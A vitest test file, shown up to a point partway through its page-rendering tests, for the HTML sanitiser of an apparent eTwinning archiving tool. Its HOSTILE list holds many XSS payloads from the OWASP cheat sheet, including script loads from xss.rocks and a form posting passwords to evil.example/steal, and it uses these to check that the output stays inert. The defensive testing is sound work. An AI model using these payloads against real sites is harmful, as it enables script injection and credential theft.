import { existsSync, readFileSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { ScannedItem, ScannedSpace } from '../../shared/inventory.ts';
import type { ItemType, Judgement } from '../../shared/model.ts';
import { renderArchiveIndex, type ArchiveIndexInput } from '../../electron/core/archive/html/archive-index.ts';
import { classifyUrl, videoProviderOf } from '../../electron/core/archive/html/classify-url.ts';
import { escapeHtml } from '../../electron/core/archive/html/escape-html.ts';
import { renderItemPage, type ItemPageInput } from '../../electron/core/archive/html/item-page.ts';
import type { LinkResolver, LinkTarget, PlatformPath } from '../../electron/core/archive/html/link-target.ts';
import { originalEntryName } from '../../electron/core/archive/html/original-entry.ts';
import { ARCHIVE_PAGE_CSP, renderDocument } from '../../electron/core/archive/html/page-document.ts';
import { relativeHref } from '../../electron/core/archive/html/relative-href.ts';
import { sanitizeBody } from '../../electron/core/archive/html/sanitize-body.ts';
import { useTempDirs } from '../helpers/temp-dir.ts';

const PAGE = 'spaces/Climate Action/pages/Welcome.html';

/** The archive layout the tests pretend: i-2 and i-7 are in this ZIP, i-9 in part 2, the rest not archived. */
const resolve: LinkResolver = (target: PlatformPath): LinkTarget => {
  if (target.kind === 'file' && (target.itemId === 'i-2' || target.itemId === 'i-7')) {
    return { kind: 'entry', path: `spaces/Climate Action/files/${target.fileName}` };
  }
  if (target.kind === 'content' && target.itemId === 'i-5') return { kind: 'entry', path: 'spaces/Climate Action/pages/Our rivers #2.html' };
  if (target.itemId === 'i-9') return { kind: 'elsewhere', label: 'in part 2 of 3 of this archive' };
  return { kind: 'elsewhere', label: 'not archived' };
};

const judgement = (verdict: Judgement['verdict'] = 'lost'): Judgement => ({
  verdict,
  rule: 'G3',
  reason: { en: 'The group had no activity in 2021 or 2022.', nl: 'De groep had geen activiteit in 2021 of 2022.' },
  quote: 'Groepen zonder activiteit in 2021 en 2022 worden niet overgezet.',
});

function scannedItem(id: string, type: ItemType, title: string, extra: Partial<ScannedItem> = {}): ScannedItem {
  return {
    ...judgement(), id, space: 'g-1001', type, title, createdAt: '2019-03-01T10:00:00Z', updatedAt: null,
    parent: null, owner: 'u1', origin: 'etwinning', organizer: null, hasBody: true, file: null, size: 0,
    url: `https://platform.example/content/${id}`, ...extra,
  };
}

const space: ScannedSpace = {
  ...judgement(), id: 'g-1001', kind: 'group', title: 'Climate Action', createdAt: '2016-09-01T08:00:00Z',
  migrationRequest: null, projectId: null, itemCount: 3, activity: ['2019-04-02T09:00:00Z'], lastActivityAt: '2019-04-02T09:00:00Z',
};

/** Every tag and attribute of some HTML, as htmlparser2 (under sanitize-html) reads it. */
function tagsOf(html: string): { name: string; attribs: Record<string, string> }[] {
  const tags: { name: string; attribs: Record<string, string> }[] = [];
  sanitizeHtml(html, {
    allowedTags: false, allowedAttributes: false, allowVulnerableTags: true,
    onOpenTag: (name, attribs) => tags.push({ name, attribs: { ...attribs } }),
  });
  return tags;
}

const FORBIDDEN_TAGS = ['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'svg', 'math', 'base', 'link', 'form', 'input', 'button', 'textarea', 'select', 'video', 'audio', 'source', 'picture', 'template', 'noscript', 'xmp', 'param', 'isindex', 'keygen', 'marquee', 'bgsound', 'details'];
const LOCAL_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,/i;

/** Inert: nothing that runs, and nothing that loads from anywhere but the archive itself. */
function expectInert(html: string, { page = false } = {}): void {
  expect(html).not.toMatch(/<\s*script/i);
  expect(html).not.toMatch(/<\s*(iframe|object|embed|svg|math|base|form)\b/i);
  // The sanitizer's own markers never survive, nor as a stray closing tag.
  expect(html).not.toMatch(/<\/?ta-/i);
  for (const { name, attribs } of tagsOf(html)) {
    expect(FORBIDDEN_TAGS, `<${name}> in output`).not.toContain(name);
    if (name === 'meta') expect(page, 'meta in a body').toBe(true);
    if (name === 'style') expect(page, 'style in a body').toBe(true);
    if (name === 'meta') expect(attribs['http-equiv'] === undefined || attribs['http-equiv'] === 'Content-Security-Policy').toBe(true);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(attribute, `<${name} ${attribute}>`).not.toMatch(/^on/i);
      expect(['style', 'srcset', 'srcdoc', 'background', 'action', 'formaction', 'poster', 'data', 'dynsrc', 'lowsrc', 'ping', 'target']).not.toContain(attribute);
      // Our own markup has ids (the verdict heading, type sections); bodies keep none, so they cannot clobber.
      if (!page) expect(['id', 'name']).not.toContain(attribute);
      if (attribute === 'href') expect(value, `href ${value}`).toMatch(/^(https?:\/\/|mailto:|#type-|[^:]*$)/i);
      if (attribute === 'src') expect(value.match(/^[^:/?#]*:/) === null || LOCAL_IMAGE.test(value), `src ${value}`).toBe(true);
      expect(value).not.toMatch(/^\s*(javascript|vbscript|livescript):/i);
    }
  }
}

// The OWASP XSS filter evasion cheat sheet's classics, mutation XSS, and broken markup.
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="jAvAsCrIpT:alert(1)">case</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="\u0001javascript:alert(1)">control</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">entities</a>',
  '<a href="vbscript:msgbox(1)">vbs</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data2</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(\'XSS\')>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<div style="background:url(https://evil.example/track.png)">styled</div>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<base href="https://evil.example/">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<!--<script>alert(1)</script>-->',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="x" alt="a" onerror="alert(1)"',
  '<a href="//evil.example/x">protocol relative</a>',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/x.png" srcset="https://evil.example/2x.png 2x">',
  '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<a href="https://evil.example/" target="_blank" ping="https://evil.example/ping" id="clobber" name="x">target</a>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<div tabindex=1 onfocus=alert(1) autofocus>focus</div>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<x onclick=alert(1)>click</x>',
  '<p style="position:fixed;top:0">overlay</p>',
  '<div dir="rtl" lang="ar" onclick=alert(1)>ok</div>',
  '<p>unclosed <b>tags <i>everywhere <a href="https://example.org/x">link',
];

describe('escapeHtml', () => {
  it('escapes markup and quotes and replaces what HTML cannot carry', () => {
    expect(escapeHtml('<a href="x" title=\'y\'>&amp;</a>')).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;');
    expect(escapeHtml('a\u0000b\u001Fc\u007Fd')).toBe('a\uFFFDb\uFFFDc\uFFFDd');
    expect(escapeHtml('lone \uD800 high, \uDC00 low, pair 😀')).toBe('lone \uFFFD high, \uFFFD low, pair 😀');
    expect(escapeHtml('\u202Eevil\u202C kept for dir=auto')).toBe('\u202Eevil\u202C kept for dir=auto');
  });
});

describe('relativeHref', () => {
  it.each([
    ['same folder', 'a/b/page.html', 'a/b/other.html', 'other.html'],
    ['itself', 'a/b/page.html', 'a/b/page.html', 'page.html'],
    ['parent', 'spaces/X/pages/Welcome.html', 'spaces/X/index.html', '../index.html'],
    ['root index', 'spaces/Climate Action/pages/Welcome.html', 'index.html', '../../../index.html'],
    ['from root', 'index.html', 'spaces/Climate Action/pages/Welcome.html', 'spaces/Climate%20Action/pages/Welcome.html'],
    ['deep to deep', 'a/b/c/d/e.html', 'a/x/y/z.png', '../../../x/y/z.png'],
    ['sibling tree', 'spaces/A/pages/p.html', 'spaces/B/files/f.pdf', '../../B/files/f.pdf'],
    ['spaces', 'p.html', 'files/my poster.jpg', 'files/my%20poster.jpg'],
    ['percent', 'p.html', 'files/100% sure.txt', 'files/100%25%20sure.txt'],
    ['hash and question', 'p.html', 'files/a#1?.png', 'files/a%231%3F.png'],
    ['colon cannot become a scheme', 'p.html', 'c:foo.html', 'c%3Afoo.html'],
    ['backslash stays a character', 'p.html', 'a\\b.html', 'a%5Cb.html'],
    ['Unicode NFC', 'p.html', 'Ideeën/é.html', 'Idee%C3%ABn/%C3%A9.html'],
    ['Unicode NFD kept as stored', 'p.html', 'e\u0301.html', 'e%CC%81.html'],
    ['emoji and CJK', 'p.html', '🎉/中文 📷.jpg', '%F0%9F%8E%89/%E4%B8%AD%E6%96%87%20%F0%9F%93%B7.jpg'],
    ['lone surrogate', 'p.html', 'x\uD800.png', 'x%EF%BF%BD.png'],
  ])('%s', (_name, from, to, expected) => {
    expect(relativeHref(from, to)).toBe(expected);
  });

  it('resolves, as a browser does, back to the very entry it names', () => {
    const names = ['index.html', 'spaces/Climate Action/pages/Welcome.html', 'spaces/Climate Action/files/poster 100% #1?.jpg',
      'spaces/Ελληνικά & 中文/pages/🎉 Nieuwe ideeën.html', 'personal/photos/e\u0301te\u0301.png', 'a/b/c/d/e/f/g.html', "x/it's (1) [2] {3} ~!*.txt"];
    const root = pathToFileURL('/archive root/').href;
    for (const from of names) {
      for (const to of names) {
        const fromUrl = new URL(from.split('/').map(encodeURIComponent).join('/'), root);
        const resolved = new URL(relativeHref(from, to), fromUrl);
        expect(fileURLToPath(resolved)).toBe(`/archive root/${to}`);
      }
    }
  });

  it('refuses paths that no URL can name', () => {
    for (const bad of ['', '/abs.html', 'a//b.html', 'a/../b.html', './a.html', 'dir/']) {
      expect(() => relativeHref('p.html', bad)).toThrow(RangeError);
    }
  });
});

describe('originalEntryName', () => {
  it('mirrors the page under originals/ as text', () => {
    expect(originalEntryName(PAGE)).toBe('originals/spaces/Climate Action/pages/Welcome.html.txt');
  });
});

describe('classifyUrl', () => {
  it('finds platform paths, relative or on any host, with names decoded', () => {
    expect(classifyUrl('/files/i-2/poster.jpg')).toEqual({ kind: 'platform', path: { kind: 'file', itemId: 'i-2', fileName: 'poster.jpg' } });
    expect(classifyUrl('https://live.etwinning.net/files/i-2/my%20poster%23.jpg?dl=1')).toEqual({ kind: 'platform', path: { kind: 'file', itemId: 'i-2', fileName: 'my poster#.jpg' } });
    expect(classifyUrl('http://old.example/content/i-5/')).toEqual({ kind: 'platform', path: { kind: 'content', itemId: 'i-5' } });
    expect(classifyUrl('i-5')).toEqual({ kind: 'platform', path: { kind: 'content', itemId: 'i-5' } });
    expect(classifyUrl('../files/i-2/a.png')).toEqual({ kind: 'platform', path: { kind: 'file', itemId: 'i-2', fileName: 'a.png' } });
    expect(classifyUrl('/files/i-2')).toEqual({ kind: 'old-platform', path: '/files/i-2' });
    expect(classifyUrl('/groups/12?tab=forum')).toEqual({ kind: 'old-platform', path: '/groups/12?tab=forum' });
  });

  it('tells outside addresses, mail, data and the unsafe apart', () => {
    expect(classifyUrl('  https://example.org/a b ')).toEqual({ kind: 'external', url: 'https://example.org/a%20b' });
    expect(classifyUrl('//evil.example/x')).toEqual({ kind: 'external', url: 'http://evil.example/x' });
    expect(classifyUrl('mailto:an@school.example')).toEqual({ kind: 'mailto', url: 'mailto:an@school.example' });
    expect(classifyUrl('data:image/png;base64,AAAA').kind).toBe('data');
    for (const none of ['', '#top', '?page=2', 'javascript:alert(1)', 'java\tscript:alert(1)', 'JaVaScRiPt:x', 'vbscript:x', 'file:///etc/passwd', 'ftp://x.example/', 'http://[bad']) {
      expect(classifyUrl(none), none).toEqual({ kind: 'none' });
    }
  });

  it('knows the video sites', () => {
    expect(videoProviderOf('https://www.youtube.com/watch?v=abc')).toBe('youtube');
    expect(videoProviderOf('https://youtu.be/abc')).toBe('youtube');
    expect(videoProviderOf('https://www.youtube-nocookie.com/embed/abc')).toBe('youtube');
    expect(videoProviderOf('https://player.vimeo.com/video/1')).toBe('vimeo');
    expect(videoProviderOf('https://notyoutube.com/x')).toBeNull();
    expect(videoProviderOf('https://youtube.com.evil.example/x')).toBeNull();
  });
});

describe('sanitizeBody', () => {
  it('keeps the public case body, with its platform link made relative', () => {
    const cases = JSON.parse(readFileSync(new URL('../fixtures/public-cases.json', import.meta.url), 'utf8')) as { items: { id: string; body?: string }[] };
    const welcome = cases.items.find((item) => item.id === 'i-a1')?.body ?? '';
    const body = sanitizeBody(welcome, (target) => ({ kind: 'entry', path: `spaces/Climate Action/files/${target.kind === 'file' ? target.fileName : target.itemId}` }), PAGE);
    expect(body.html).toBe('<h1>Welcome</h1><p>See <a href="../files/poster.jpg">our poster</a>.</p>');
    expect(body.internalLinks).toEqual([{ itemId: 'i-a5', kind: 'file' }]);
    expect(body.text).toBe('Welcome\nSee our poster.');
  });

  it('rewrites platform links and images to relative, encoded entry paths', () => {
    const body = sanitizeBody([
      '<p><a href="/files/i-2/my%20poster%20100%25%20%231%3F.jpg">poster</a>',
      '<img src="https://live.etwinning.net/files/i-7/ph%C3%B6to%20%F0%9F%93%B7.png" alt="Photo" width="300" height="huge">',
      '<a href="/content/i-5" title="rivers">rivers</a></p>',
    ].join(''), resolve, PAGE);
    expect(body.html).toBe('<p><a href="../files/my%20poster%20100%25%20%231%3F.jpg">poster</a>'
      + '<img width="300" src="../files/ph%C3%B6to%20%F0%9F%93%B7.png" alt="Photo" />'
      + '<a title="rivers" href="Our%20rivers%20%232.html">rivers</a></p>');
    expect(body.internalLinks).toEqual([{ itemId: 'i-2', kind: 'file' }, { itemId: 'i-7', kind: 'file' }, { itemId: 'i-5', kind: 'content' }]);
  });

  it('shows what is elsewhere as text with its note, never as a dead link', () => {
    const body = sanitizeBody('<a href="/content/i-9">next part</a> <a href="/content/i-404">gone</a> <a href="/groups/12">group</a> <img src="/files/i-9/map.png">', resolve, PAGE);
    expect(body.html).toBe('<span class="ta-elsewhere" data-ta-note="in part 2 of 3 of this archive" title="in part 2 of 3 of this archive">next part</span> '
      + '<span class="ta-elsewhere" data-ta-note="not archived" title="not archived">gone</span> '
      + '<span class="ta-elsewhere" data-ta-note="link to the old platform, not archived" title="/groups/12: link to the old platform, not archived">group</span> '
      + '<span class="ta-remote-image">[map.png (in part 2 of 3 of this archive)]</span>');
    expect(body.html).not.toContain('<a');
  });

  it('keeps outside links plain, and turns remote images into a note that loads nothing', () => {
    const body = sanitizeBody('<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="opener">site</a> <a href="mailto:an@school.example">mail</a> <img src="https://evil.example/track.png" alt="Logo">', resolve, PAGE);
    expect(body.html).toBe('<a href="https://example.org/a?b=1&amp;c=2" rel="noreferrer">site</a> '
      + '<a href="mailto:an@school.example" rel="noreferrer">mail</a> '
      + '<a href="https://evil.example/track.png" class="ta-remote-image" rel="noreferrer">[Logo: Image not archived (it was on another website): https://evil.example/track.png]</a>');
    expect(body.externalLinks).toEqual(['https://example.org/a?b=1&c=2', 'https://evil.example/track.png']);
    expect(tagsOf(body.html).filter((tag) => tag.name === 'img')).toEqual([]);
  });

  it('replaces YouTube and Vimeo players by a box and collects them, with plain video links', () => {
    const body = sanitizeBody([
      '<p>Watch:</p><iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" frameborder="0" allowfullscreen>fallback <b>text</b> more</iframe>',
      '<iframe src="//player.vimeo.com/video/76979871"></iframe>',
      '<iframe src="https://maps.example/embed?x=1"></iframe>',
      '<object width="425" height="350"><param name="movie" value="http://www.youtube.com/v/OLD"><embed src="http://www.youtube.com/v/OLD" type="application/x-shockwave-flash"></embed>Get Flash</object>',
      '<p><a href="https://youtu.be/abc">also this one</a></p>',
    ].join(''), resolve, PAGE);
    expect(body.embeds).toEqual([
      { provider: 'youtube', url: 'https://www.youtube.com/embed/dQw4w9WgXcQ' },
      { provider: 'vimeo', url: 'http://player.vimeo.com/video/76979871' },
      { provider: 'other', url: 'https://maps.example/embed?x=1' },
      { provider: 'youtube', url: 'http://www.youtube.com/v/OLD' },
      { provider: 'youtube', url: 'https://youtu.be/abc' },
    ]);
    expect(body.html).toBe('<p>Watch:</p>'
      + '<a href="https://www.youtube.com/embed/dQw4w9WgXcQ" class="ta-embed" rel="noreferrer">Video: https://www.youtube.com/embed/dQw4w9WgXcQ</a>'
      + '<a href="http://player.vimeo.com/video/76979871" class="ta-embed" rel="noreferrer">Video: http://player.vimeo.com/video/76979871</a>'
      + '<a href="https://maps.example/embed?x=1" class="ta-embed" rel="noreferrer">Embedded content: https://maps.example/embed?x=1</a>'
      + '<a href="http://www.youtube.com/v/OLD" class="ta-embed" rel="noreferrer">Video: http://www.youtube.com/v/OLD</a>Get Flash'
      + '<p><a href="https://youtu.be/abc" rel="noreferrer">also this one</a></p>');
    expect(body.externalLinks).toEqual(['https://youtu.be/abc']);
    expect(body.text).toContain('Video: https://www.youtube.com/embed/dQw4w9WgXcQ\n');
  });

  it('links platform videos and embedded files to their entries', () => {
    const body = sanitizeBody('<video controls><source src="/files/i-2/clip.mp4" type="video/mp4"><source src="/files/i-2/clip.mp4">No video</video><iframe src="/content/i-5"></iframe><embed src="/files/i-9/slides.pdf">', resolve, PAGE);
    expect(body.html).toBe('<a href="../files/clip.mp4" class="ta-embed">Embedded file: clip.mp4</a>No video'
      + '<a href="Our%20rivers%20%232.html" class="ta-embed">Embedded platform page: /content/i-5</a>'
      + '<span class="ta-embed">Embedded file: slides.pdf (in part 2 of 3 of this archive)</span>');
    expect(body.embeds).toEqual([]);
  });

  it('keeps small pasted raster images and no other data: URL', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    const body = sanitizeBody(`<img src="${png}" alt="dot"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x"><img src="data:image/png;base64,${'A'.repeat(2_000_000)}">`, resolve, PAGE);
    expect(body.html).toBe(`<img src="${png}" alt="dot" />`
      + '<span class="ta-remote-image">[Image removed: it could not be kept safely.]</span>'.repeat(2)
      + '<span class="ta-remote-image">[Image too large to show here; it is kept in the original HTML.]</span>');
  });

  it('keeps harmless formatting, text direction and language, and nothing else', () => {
    const body = sanitizeBody('<h2 class="x" id="y" dir="RTL" lang="ar">مرحبا</h2><table border=1><tr><td colspan="2" rowspan="x" style="color:red">c</td></tr></table><ol start="3"><li><s>old</s> <strike>older</strike> <u>u</u><sub>2</sub></li></ol><pre><code>a &lt; b</code></pre><font color=red>font</font><center>mid</center><p dir="sideways">d</p>', resolve, PAGE);
    expect(body.html).toBe('<h2 lang="ar" dir="rtl">مرحبا</h2><table><tr><td colspan="2">c</td></tr></table><ol start="3"><li><s>old</s> <s>older</s> <u>u</u><sub>2</sub></li></ol><pre><code>a &lt; b</code></pre>font<div>mid</div><p>d</p>');
    expect(body.text).toBe('مرحبا\nc\nold older u2\na < b\nfont\nmid\nd');
  });

  it.each(HOSTILE.map((html) => [html]))('leaves nothing active of %s', (html) => {
    const body = sanitizeBody(html, resolve, PAGE);
    expectInert(body.html);
    expect(body.html).not.toMatch(/alert\(|xss\.rocks\/xss\.js/i);
  });

  it('survives the whole corpus at once, tags left open', () => {
    const body = sanitizeBody(HOSTILE.join('\n'), resolve, PAGE);
    expectInert(body.html);
  });

  it('handles 10,000 levels of nesting quickly, capped to what browsers render', () => {
    for (const html of [
      `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
      `${'<div><b><i>'.repeat(10_000)}deep`,
      `${'<a href="/content/i-5">'.repeat(10_000)}deep`,
      `${'<iframe src="https://youtu.be/x">'.repeat(10_000)}deep`,
      `${'<table><tr><td>'.repeat(10_000)}deep`,
      `${'<blockquote>x '.repeat(10_000)}`,
    ]) {
      const started = performance.now();
      const body = sanitizeBody(html, resolve, PAGE);
      expect(performance.now() - started).toBeLessThan(2_000);
      let depth = 0;
      let deepest = 0;
      sanitizeHtml(body.html, {
        allowedTags: false, allowedAttributes: false, allowVulnerableTags: true,
        onOpenTag: (name) => { if (!['br', 'hr', 'img', 'col'].includes(name)) deepest = Math.max(deepest, ++depth); },
        onCloseTag: (name) => { if (!['br', 'hr', 'img', 'col'].includes(name)) depth -= 1; },
      });
      expect(deepest).toBeLessThanOrEqual(100);
      expectInert(body.html);
    }
  });

  it('handles a 5 MB hostile body', () => {
    // Unclosed <script>, <svg> or <math> swallow the rest of a body, in browsers as here: leave
    // those out so that all 5 MB are worked through.
    const selfContained = HOSTILE.filter((html) => sanitizeBody(`${html}<div>after</div>`, resolve, PAGE).text.endsWith('after'));
    expect(selfContained.length).toBeGreaterThan(HOSTILE.length - 10);
    const block = `<p>Les <b>résultats</b> <a href="/files/i-2/r%C3%A9sultats.pdf">PDF</a> <img src="/files/i-7/graph.png"> <a href="https://example.org/x">ext</a></p>${selfContained.join('')}</p></div></table>\n`;
    const html = block.repeat(Math.ceil(5_000_000 / block.length));
    expect(html.length).toBeGreaterThanOrEqual(5_000_000);
    const started = performance.now();
    const body = sanitizeBody(html, resolve, PAGE);
    expect(performance.now() - started).toBeLessThan(30_000);
    expectInert(body.html);
    expect(body.internalLinks.slice(0, 2)).toEqual([{ itemId: 'i-2', kind: 'file' }, { itemId: 'i-7', kind: 'file' }]);
    // Tags left open pile up past the nesting cap, where tags go and text stays.
    expect(body.text.split('Les résultats PDF').length - 1).toBe(Math.ceil(5_000_000 / block.length));
  });
});

const HOSTILE_TITLE = '<script>alert("title")</script>"><img src=x onerror=alert(1)> \u202Egnp.exe';

function pageInput(entryPath: string, html: string, extra: Partial<ItemPageInput> = {}): ItemPageInput {
  return {
    entryPath,
    item: scannedItem('i-1', 'page', HOSTILE_TITLE, {
      updatedAt: '2019-03-02T10:00:00Z',
      reason: { en: 'Reason </style><script>alert(1)</script>', nl: 'Reden <!-- -->' },
      quote: 'Citaat "<iframe src=https://evil.example>"',
    }),
    space: { ...space, title: 'Climate "Action" <b>' },
    body: sanitizeBody(html, resolve, entryPath),
    originalEntryPath: originalEntryName(entryPath),
    file: null,
    parent: { title: 'Forum <thread>', type: 'forum-thread', target: { kind: 'entry', path: 'spaces/Climate Action/forum/Ideas #1.html' } },
    attachments: [
      { title: 'poster 100% #1?.jpg', type: 'material', target: { kind: 'entry', path: 'spaces/Climate Action/files/poster 100% #1?.jpg' }, size: 250_000 },
      { title: 'later.pdf', type: 'material', target: { kind: 'elsewhere', label: 'in part 2 of 3 of this archive' }, size: 1_200_000 },
    ],
    replies: [{ title: '', type: 'comment', target: { kind: 'entry', path: 'spaces/Climate Action/comments/c1.html' }, createdAt: '2019-03-03T08:00:00Z' }],
    archivedAt: '2026-01-05T12:00:00Z',
    sourceUrl: 'https://platform.example/content/i-1',
    ...extra,
  };
}

describe('renderItemPage', () => {
  it('renders a complete, inert page with everything a reader needs', () => {
    const html = renderItemPage(pageInput(PAGE, '<p>Hi <a href="/files/i-2/poster.jpg">poster</a></p><iframe src="https://www.youtube.com/embed/abc"></iframe>'));
    expectInert(html, { page: true });
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy"')).toBe(true);
    expect(html).toContain(`content="${ARCHIVE_PAGE_CSP.replace(/'/g, '&#39;')}"`);
    expect(ARCHIVE_PAGE_CSP).toContain("default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; media-src 'self'");
    expect(html).toContain('<h1 dir="auto">&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt; \u202Egnp.exe</h1>');
    expect(html).toContain('<a href="../../../index.html"><bdi>Climate &quot;Action&quot; &lt;b&gt;</bdi></a> › Pages ›');
    expect(html).toContain('<span class="badge badge-lost">Will be lost</span> <span class="rule">Rule G3</span>');
    expect(html).toContain('<p lang="en"><strong>Why:</strong> Reason &lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>');
